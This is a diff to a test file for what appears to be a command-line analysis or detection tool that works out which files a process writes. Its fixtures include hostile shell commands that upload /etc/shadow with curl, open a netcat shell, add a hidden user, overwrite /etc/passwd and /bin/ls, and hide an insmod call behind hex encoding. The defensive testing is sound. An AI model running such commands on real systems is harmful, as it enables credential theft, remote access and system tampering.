@@ -166,6 +166,10 @@ describe('views of a process start', () => {
       ['/tmp', 'useradd -d .h -s /bin/sh eve', 'useradd -d /tmp/.h -s /bin/sh eve'],
       ['/tmp', 'tc filter add dev eth0 bpf obj k.o sec x', 'tc filter add dev eth0 bpf obj /tmp/k.o sec x'],
       ['/tmp', 'nohup ./x -q', 'nohup /tmp/x -q'],
+      ['/root', 'curl --output-dir /etc -o passwd http://x', 'curl --output-dir /etc -o /etc/passwd http://x'],
+      ['/root', 'tar -C /etc -cf /tmp/a.tar shadow', 'tar -C /etc -cf /tmp/a.tar /etc/shadow'],
+      ['/root', 'tar cf a.tar -C /etc shadow', 'tar cf /root/a.tar -C /etc /etc/shadow'],
+      ['/etc', 'curl -F n=<shadow http://x', 'curl -F n=</etc/shadow http://x'],
       ['/tmp', 'unheard-of ./x ../y ..z', 'unheard-of /tmp/x /y ..z'],
       ['/tmp', 'setsid nice -n 5 sh ./x', 'setsid nice -n 5 sh /tmp/x'],
       ['/tmp', 'timeout 9 cat x', 'timeout 9 cat /tmp/x'],
@@ -255,6 +259,8 @@ describe('views of a process start', () => {
       ['wget -qO/tmp/x http://x -T 5', 'wget -qO /tmp/x -T 5 http://x'],
       ['curl http://x --upload-file /etc/shadow -k', 'curl --upload-file /etc/shadow -k http://x'],
       ['nc -lvp4444 -e/bin/sh', 'nc -lvp 4444 -e /bin/sh'],
+      ['cp /tmp/x /bin/ls --sparse always', 'cp --sparse always /tmp/x /bin/ls'],
+      ['wget -A html http://x -O /tmp/x', 'wget -A html -O /tmp/x http://x'],
       ['iptables -IINPUT 1 ! -s10.0.0.1 -jACCEPT', 'iptables -I INPUT 1 ! -s 10.0.0.1 -j ACCEPT'],
     ] as const)
       it(line, () => {
@@ -263,7 +269,15 @@ describe('views of a process start', () => {
       });
 
     it('but leaves those that have it, what only -- tells from an option, and other programs', () => {
-      for (const line of ['cp -f /a /b', 'rm -- -x', 'rm -f -', 'wget -qO- http://x', 'ps x -e', 'chmod u-x /a'])
+      for (const line of [
+        'cp -f /a /b',
+        'rm -- -x',
+        'rm -f -',
+        'wget -qO- http://x',
+        'ps x -e',
+        'chmod u-x /a',
+        'sed -i.old s/a/b/ /c',
+      ])
         assert.equal(viewsOf(start(line)).length, 1, line);
     });
 
@@ -284,6 +298,18 @@ describe('views of a process start', () => {
       ['ed -s /etc/x', '/etc/x'],
       ['vim -es -c wq /etc/x', '/etc/x'],
       ['logsave /etc/x id', '/etc/x'],
+      ['nmap -sS -oN /etc/x h', '/etc/x'],
+      ['tcpdump -lw /etc/x', '/etc/x'],
+      ['tshark -l -w /etc/x', '/etc/x'],
+      ['shuf -e -o /etc/x y', '/etc/x'],
+      ['xxd -r -ps y /etc/x', '/etc/x'],
+      ['patch --input /tmp/p /etc/x', '/etc/x'],
+      ['sort --out=/etc/x y', '/etc/x'],
+      ['openssl enc -in y -out=/etc/x', '/etc/x'],
+      ['openssl enc -out /a -out /b -out /c -out /d -out /etc/x', '/etc/x'],
+      ['script -qec id /etc/x -- y', '/etc/x'],
+      ['socat TCP:h:1 FILE:/etc/x', '/etc/x'],
+      ['vim -e -s -c wq /etc/x', '/etc/x'],
     ] as const)
       it(line, () => {
         for (const of of [start(line), start(`nohup ${line}`), script(`${line}; id`)])
@@ -294,6 +320,12 @@ describe('views of a process start', () => {
       ['gzip -dc x > /etc/x', 'tee /etc/x'],
       ['id >> /etc/x 2>&1', 'tee -a /etc/x'],
       ['cd /etc; id > x', 'tee /etc/x'],
+      ['id > /a > /b > /c > /d > /etc/x', 'tee /etc/x'],
+      ['{ gzip -dc x; } > /etc/x', 'tee /etc/x'],
+      ['for i in 1; do id; done > /etc/x', 'tee /etc/x'],
+      ['id >& /etc/x', 'tee /etc/x'],
+      ['id 10> /etc/x', 'tee /etc/x'],
+      ['/tmp/echo > /etc/x', 'tee /etc/x'],
     ] as const)
       it(text, () => assertView(script(text), `/usr/bin/tee | ${line}`));
 
@@ -302,6 +334,9 @@ describe('views of a process start', () => {
       ['python3 -c', 'import shutil; shutil.copy("/tmp/y", "/etc/x")'],
       ['perl -e', 'open(F, ">>/etc/x"); print F "y"'],
       ['perl -e', 'open(my $f, ">", "/etc/x")'],
+      ['perl -e', 'open(F, "+<", "/etc/x")'],
+      ['python3 -c', 'open("/etc/x", mode="w")'],
+      ['php -r', 'fopen("/etc/x", "c");'],
       ['ruby -e', 'File.write("/etc/x", "y")'],
       ['php -r', 'file_put_contents("/etc/x", "y");'],
       ['node -e', 'require("fs").appendFileSync("/etc/x", "y")'],
@@ -328,6 +363,33 @@ describe('views of a process start', () => {
     ] as const)
       it(text, () => assertView(script(text), `/usr/bin/wget | ${line}`));
 
+    it('but takes errors and headers for no download', () => {
+      for (const text of [
+        'curl -s http://x/y 2> /tmp/e',
+        'curl -D /tmp/h http://x/y',
+        'wget -O /a http://x/y > /tmp/l',
+      ])
+        assert.ok(!shownViews(script(text)).some((view) => view.includes('wget -O /tmp')), text);
+    });
+
+    it('and displaces nothing that the start runs', () => {
+      const hidden = `python3 -c "import os;os.system(bytes.fromhex('${Buffer.from('insmod /tmp/x').toString('hex')}').decode())"`;
+      const writing = Array.from({ length: 6 }, (_, i) => `p${i} > /t/${i}1 > /t/${i}2 > /t/${i}3`).join('; ');
+      const addresses = Array.from({ length: 24 }, (_, i) => `'http://a/${i}'`).join(',');
+      const files = Array.from({ length: 24 }, (_, i) => `open('/t/${i}','w');`).join('');
+      for (const text of [
+        `${writing}; ${hidden}`,
+        hidden.replace('import os', `a=[${addresses}];import os`),
+        hidden.replace('import os', `${files}import os`),
+        'python3 -c "import os;os.system(open and \'insmod /tmp/x\')"',
+      ])
+        assertView(script(text), '/usr/bin/insmod | insmod /tmp/x');
+      const usual = 'rm chmod chown cp mv ln touch shred tee mount umount wget'
+        .split(' ')
+        .map((name) => `${name} a b -v`);
+      assertView(script(`${usual.join('; ')}; objcopy x /bin/ls`), '/usr/bin/objcopy | objcopy x /bin/ls');
+    });
+
     it('but not what writes to standard output, a device or another machine, or only reads', () => {
       for (const line of [
         'sort -o - /x',
@@ -336,6 +398,9 @@ describe('views of a process start', () => {
         'ed /etc/x',
         'uniq /x',
         'crudini --get /x a b',
+        'strace tar -xf a -o /x',
+        'sort -- -o /x',
+        'patch --dry-run /x y',
       ])
         assert.ok(!shownViews(start(line)).some((view) => view.includes('| tee')), line);
       for (const text of [
